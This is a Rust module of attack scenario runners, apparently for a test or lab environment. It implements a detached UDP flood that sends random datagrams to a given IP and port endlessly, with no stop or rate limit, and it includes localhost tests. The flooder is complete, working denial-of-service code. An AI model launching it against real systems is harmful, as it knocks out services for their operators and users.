//! Attack scenario runners
//!
//! A scenario is started against the environment's address and then left
//! alone: there is no stop call and no result channel. The task it spawns is
//! detached and ends when the runtime shuts down.

use rand::RngCore;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr};
use std::time::Duration;
use tokio::net::UdpSocket;

/// Background traffic generator
pub trait ScenarioRunner: Send + Sync {
    /// Launch the scenario against `target` and return immediately
    ///
    /// Must be called from within a tokio runtime. Failures inside the
    /// scenario are never reported back.
    fn start(&self, target: IpAddr);
}

/// UDP flood toward a single port
#[derive(Debug, Clone)]
pub struct UdpFlood {
    port: u16,
    payload_len: usize,
    burst: usize,
    retry_delay: Duration,
}

impl Default for UdpFlood {
    fn default() -> Self {
        Self {
            port: 80,
            payload_len: 1024,
            burst: 64,
            retry_delay: Duration::from_millis(100),
        }
    }
}

impl UdpFlood {
    /// Flood with default port, payload and burst
    #[must_use]
    pub fn new() -> Self {
        Self::default()
    }

    /// With destination port
    #[inline]
    #[must_use]
    pub fn with_port(mut self, port: u16) -> Self {
        self.port = port;
        self
    }

    /// With datagram payload size
    #[inline]
    #[must_use]
    pub fn with_payload_len(mut self, payload_len: usize) -> Self {
        self.payload_len = payload_len;
        self
    }

    /// With datagrams sent between scheduler yields
    #[inline]
    #[must_use]
    pub fn with_burst(mut self, burst: usize) -> Self {
        self.burst = burst.max(1);
        self
    }

    /// Destination port
    #[inline]
    #[must_use]
    pub fn port(&self) -> u16 {
        self.port
    }

    async fn flood(self, target: SocketAddr) {
        let bind: SocketAddr = match target {
            SocketAddr::V4(_) => (Ipv4Addr::UNSPECIFIED, 0).into(),
            SocketAddr::V6(_) => (Ipv6Addr::UNSPECIFIED, 0).into(),
        };

        let mut payload = vec![0u8; self.payload_len];
        rand::rng().fill_bytes(&mut payload);

        let socket = loop {
            match UdpSocket::bind(bind).await {
                Ok(socket) => break socket,
                Err(err) => {
                    tracing::debug!(error = %err, "flood socket bind failed, retrying");
                    tokio::time::sleep(self.retry_delay).await;
                }
            }
        };

        let mut sent: u64 = 0;
        loop {
            for _ in 0..self.burst {
                match socket.send_to(&payload, target).await {
                    Ok(_) => sent += 1,
                    Err(err) => {
                        tracing::trace!(error = %err, sent, "flood send failed");
                        tokio::time::sleep(self.retry_delay).await;
                    }
                }
            }
            tokio::task::yield_now().await;
        }
    }
}

impl ScenarioRunner for UdpFlood {
    fn start(&self, target: IpAddr) {
        let target = SocketAddr::new(target, self.port);
        tracing::info!(%target, payload = self.payload_len, "starting udp flood");
        // detached: the handle is dropped and the task is never joined
        drop(tokio::spawn(self.clone().flood(target)));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::time::Duration;

    #[tokio::test]
    async fn floods_the_target_port() {
        let receiver = UdpSocket::bind("127.0.0.1:0").await.unwrap();
        let port = receiver.local_addr().unwrap().port();

        UdpFlood::new()
            .with_port(port)
            .with_payload_len(32)
            .start(IpAddr::V4(Ipv4Addr::LOCALHOST));

        let mut buf = [0u8; 64];
        for _ in 0..3 {
            let (len, _) = tokio::time::timeout(Duration::from_secs(5), receiver.recv_from(&mut buf))
                .await
                .expect("flood datagram")
                .unwrap();
            assert_eq!(len, 32);
        }
    }

    #[tokio::test]
    async fn start_returns_immediately() {
        let started = std::time::Instant::now();
        UdpFlood::new().start(IpAddr::V4(Ipv4Addr::LOCALHOST));
        assert!(started.elapsed() < Duration::from_secs(1));
    }
}
